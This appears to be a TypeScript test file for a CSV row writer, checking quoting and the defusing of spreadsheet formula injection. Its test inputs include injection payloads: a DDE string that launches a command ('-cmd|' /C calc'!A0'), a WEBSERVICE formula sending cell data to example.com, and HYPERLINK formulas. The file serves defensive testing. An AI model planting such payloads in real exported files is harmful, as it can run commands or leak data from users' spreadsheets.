import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvRow } from '#lib/batch/downloads/csv-row.ts';
import { readCsv } from '#tests/support/read-csv.ts';

const rowsOfThree = fc.array(
  fc.tuple(
    ...Array.from({ length: 3 }, () =>
      fc.oneof(
        fc.string({ unit: 'grapheme' }),
        fc.string({ unit: fc.constantFrom('a', '"', ',', ';', '\r', '\n', '\t', '=', '@', ' ', "'") }),
      ),
    ),
  ),
  { minLength: 1, maxLength: 5 },
);

/** What must not change for a strict reader: everything but the apostrophes that defuse. */
function withoutApostrophes(rows: readonly (readonly string[])[]): readonly (readonly string[])[] {
  return rows.map((row) => row.map((cell) => cell.replaceAll("'", '')));
}

function defused(cell: string): string {
  const isNumber = cell !== '' && !Number.isNaN(Number(cell)) && /^[-+\d.]+$/.test(cell);
  return /^[=+\-@\t\r\n＝＋－＠]/u.test(cell) && !isNumber ? `'${cell}` : cell;
}

test('whatever cells hold, a strict reader finds the same rows and cells', () => {
  fc.assert(
    fc.property(rowsOfThree, (rows) => {
      const text = rows.map((row) => csvRow(row)).join('');
      const read = readCsv(text);
      expect(withoutApostrophes(read)).toEqual(withoutApostrophes(rows));
      const starts = (table: readonly (readonly string[])[]) => table.map((row) => row.map((cell) => cell.slice(0, 1)));
      expect(starts(read)).toEqual(starts(rows.map((row) => row.map(defused))));
    }),
  );
});

test.each([
  '1\n2',
  '1\r2',
  '1\r\n2',
  '- one\n- two',
  'one; two',
  'one\ttwo',
  'Title\n=====\n@ana',
  'ok\n+49 170\n- 1 (one)\n-5',
])('a line break or a semicolon in %j begins no row, and changes nothing that people read', (answer) => {
  expect(readCsv(csvRow(['a', answer, 'x']))).toEqual([['a', answer.startsWith('-') ? `'${answer}` : answer, 'x']]);
});

/** A spreadsheet where the list separator is a semicolon, fed with our commas: quotes count at a cell's start only. */
function splitAtSemicolons(text: string): readonly string[] {
  return text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"+/, ''));
}

test.each([
  'a;=SUM(A1);b',
  'a\n=1+MAX(1)\nb',
  'a\r@SUM(A1)\rb',
  'a;"=HYPERLINK(A1);b',
  "a;-cmd|' /C calc'!A0",
  'a;+WEBSERVICE("https://example.com/"&A1)',
  'a\t＝SUM(A1)',
  '\n=HYPERLINK("https://example.com")',
])('%j begins no formula where a spreadsheet splits at semicolons', (answer) => {
  const text = csvRow(['a', answer, 'x']);
  expect(splitAtSemicolons(text).filter((cell) => /^[=@＝＠+-].*[(|]/u.test(cell))).toEqual([]);
  expect(text).toMatch(/^a,"/);
});

test('a row is made in time that grows with its length alone', () => {
  const long = [';"', ';-', ';-|'].map((start) => `${start}${'"|-('.repeat(100_000)}`);
  expect(csvRow(long).length).toBeGreaterThan(1_200_000);
}, 60_000);

const hasPython = spawnSync('python3', ['-c', '0']).status === 0;

test.runIf(hasPython)("Python's csv reads the same cells", () => {
  const cells = ['a', '1\n2\n-1+1', '1\r2', '"quoted", said', ' spaced ', "it's", '', 'ü😀'];
  const program =
    'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline="")))))';
  const { stdout } = spawnSync('python3', ['-c', program], { input: csvRow(cells).repeat(2) });
  expect(JSON.parse(stdout.toString())).toEqual([cells, cells]);
});

test.each([
  '=1+1',
  '+1+1',
  '-1-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '+49 170',
  '-',
])('a cell that begins as in %j is no formula for a spreadsheet', (cell) => {
  const read = readCsv(csvRow(['a', cell]));
  expect(read[0]?.[1]).toMatch(/^'/);
  expect(withoutApostrophes(read)).toEqual([['a', cell]]);
});

test('other cells and numbers stay as they are', () => {
  expect(csvRow(['a=1', 'an@example.com', -1, '-1', '+49', '-0.5', 'x'])).toBe(
    'a=1,an@example.com,-1,-1,+49,-0.5,x\r\n',
  );
});
